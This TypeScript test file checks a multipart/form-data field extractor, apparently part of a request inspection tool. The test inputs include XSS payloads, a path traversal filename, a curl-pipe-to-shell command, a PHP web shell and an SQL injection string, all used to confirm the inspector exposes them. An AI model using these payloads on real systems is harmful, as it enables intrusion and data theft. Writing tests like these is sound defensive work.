import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createFieldSink } from './field-sink.js';
import { DEFAULT_EXTRACT_LIMITS, type ExtractLimits } from './limits.js';
import { extractMultipart } from './multipart.js';

const BOUNDARY = '----WebKitFormBoundary7MA4YWxkTrZu0gW';
const PNG = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01', 'latin1'), Buffer.from('<script>alert(1)</script>')]);

function part(headers: string, content: string | Buffer): Buffer {
  return Buffer.concat([Buffer.from(`--${BOUNDARY}\r\n${headers}\r\n\r\n`, 'utf8'), Buffer.from(content), Buffer.from('\r\n')]);
}

function body(...parts: Buffer[]): Buffer {
  return Buffer.concat([...parts, Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

function extract(bytes: Buffer, contentType = `multipart/form-data; boundary=${BOUNDARY}`, limits: Partial<ExtractLimits> = {}) {
  const sink = createFieldSink({ ...DEFAULT_EXTRACT_LIMITS, ...limits });
  extractMultipart(sink, bytes, contentType);
  for (const field of sink.fields) assert.equal(field.kind, 'body');
  return { rows: sink.fields.map((field) => [field.location, field.source, field.name, field.isName, field.value]), sink };
}

test('an upload with a text field, a text file and a PNG: names, values, filenames, types and the text file only', () => {
  const upload = body(
    part('Content-Disposition: form-data; name="title"', "Holiday photos from O'Brien's trip"),
    part('Content-Disposition: form-data; name="notes"; filename="notes.txt"\r\nContent-Type: text/plain', 'line one\r\nline two'),
    part('Content-Disposition: form-data; name="photo"; filename="beach.png"\r\nContent-Type: image/png', PNG),
  );
  assert.deepEqual(extract(upload).rows, [
    ['body.multipart.title#name', 'multipart', 'title', true, 'title'],
    ['body.multipart.title', 'multipart', 'title', false, "Holiday photos from O'Brien's trip"],
    ['body.multipart.notes#name', 'multipart', 'notes', true, 'notes'],
    ['body.multipart.notes.filename', 'multipart', 'notes', false, 'notes.txt'],
    ['body.multipart.notes.content-type', 'multipart', 'notes', false, 'text/plain'],
    ['body.multipart.notes.content', 'raw', 'notes', false, 'line one\r\nline two'],
    ['body.multipart.photo#name', 'multipart', 'photo', true, 'photo'],
    ['body.multipart.photo.filename', 'multipart', 'photo', false, 'beach.png'],
    ['body.multipart.photo.content-type', 'multipart', 'photo', false, 'image/png'],
  ]);
});

test('attacks in filenames, quoted names and SVG content are fields', () => {
  const upload = body(
    part('Content-Disposition: form-data; name="file"; filename="../../etc/passwd\\"<x>.svg"\r\nContent-Type: image/svg+xml', '<svg onload="alert(1)"/>'),
    part('content-disposition: form-data; name="a;b"', 'v'),
  );
  assert.deepEqual(extract(upload).rows.map((row) => [row[0], row[4]]), [
    ['body.multipart.file#name', 'file'],
    ['body.multipart.file.filename', '../../etc/passwd"<x>.svg'],
    ['body.multipart.file.content-type', 'image/svg+xml'],
    ['body.multipart.file.content', '<svg onload="alert(1)"/>'],
    ['body.multipart.a;b#name', 'a;b'],
    ['body.multipart.a;b', 'v'],
  ]);
});

test('a file without a type, or labelled binary, is inspected when it is text; filename* counts as a filename', () => {
  const upload = body(
    part('Content-Disposition: form-data; name="script"; filename="run.sh"', 'curl http://x | sh'),
    part("Content-Disposition: form-data; name=\"doc\"; filename*=UTF-8''r%C3%A9sum%C3%A9.php\r\nContent-Type: application/octet-stream", '<?php system($_GET["c"]); ?>'),
  );
  const rows = extract(upload).rows.map((row) => [row[0], row[4]]);
  assert.deepEqual(rows.filter((row) => String(row[0]).endsWith('.content')), [
    ['body.multipart.script.content', 'curl http://x | sh'],
    ['body.multipart.doc.content', '<?php system($_GET["c"]); ?>'],
  ]);
  assert.deepEqual(rows.find((row) => row[0] === 'body.multipart.doc.filename'), ['body.multipart.doc.filename', "UTF-8''r%C3%A9sum%C3%A9.php"]);
});

test('a text file is inspected up to maxPartBytes, and the cut is reported', () => {
  const { rows, sink } = extract(body(part('Content-Disposition: form-data; name="csv"; filename="a.csv"\r\nContent-Type: text/csv', 'x'.repeat(100))), undefined, { maxPartBytes: 40 });
  assert.deepEqual(rows.at(-1), ['body.multipart.csv.content', 'raw', 'csv', false, 'x'.repeat(40)]);
  assert.equal(sink.truncated, true);
});

test('a quoted boundary, a preamble, transport padding and a part without headers are read', () => {
  const bytes = Buffer.from(`preamble\r\n--b 1  \r\nContent-Disposition: form-data; name="a"\r\n\r\none\r\n--b 1\r\n\r\nheaderless\r\n--b 1--`);
  assert.deepEqual(extract(bytes, 'multipart/form-data; charset=utf-8; boundary="b 1"').rows.map((row) => [row[0], row[4]]), [
    ['body.multipart.a#name', 'a'],
    ['body.multipart.a', 'one'],
    ['body.multipart.', 'headerless'],
  ]);
});

test('without a boundary the body is inspected as text', () => {
  const { rows, sink } = extract(Buffer.from('name=<script>'), 'multipart/form-data');
  assert.deepEqual(rows, [['body.raw', 'raw', '', false, 'name=<script>']]);
  assert.deepEqual(sink.problems, ['a multipart body without a usable boundary was inspected as text']);
});

test('a body that breaks off keeps what was read and inspects the rest as text', () => {
  const bytes = Buffer.concat([part('Content-Disposition: form-data; name="ok"', 'fine'), Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="cut"\r\n\r\n' UNION SELECT password FROM users--`)]);
  const { rows, sink } = extract(bytes);
  assert.deepEqual(rows.map((row) => [row[0], row[4]]), [
    ['body.multipart.ok#name', 'ok'],
    ['body.multipart.ok', 'fine'],
    ['body.raw', `--${BOUNDARY}\r\nContent-Disposition: form-data; name="cut"\r\n\r\n' UNION SELECT password FROM users--`],
  ]);
  assert.deepEqual(sink.problems, ['a malformed multipart body was inspected as text from the point it broke']);
});

test('line feeds without carriage returns are not multipart framing: the whole body is inspected as text', () => {
  const bytes = Buffer.from(`--${BOUNDARY}\nContent-Disposition: form-data; name="a"\n\n<script>\n--${BOUNDARY}--\n`);
  assert.deepEqual(extract(bytes).rows.map((row) => row[0]), ['body.raw']);
});

test('50 000 empty parts or near-delimiters complete', () => {
  const many = Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="p"\r\n\r\n\r\n`.repeat(50_000) + `--${BOUNDARY}--`);
  assert.equal(extract(many).rows.length, DEFAULT_EXTRACT_LIMITS.maxFields);
  const near = Buffer.from(`--${BOUNDARY}\r\n\r\n` + `\r\n--${BOUNDARY.slice(0, -1)}`.repeat(50_000));
  assert.ok(extract(near).rows.every((row) => String(row[0]).startsWith('body.raw[')));
});
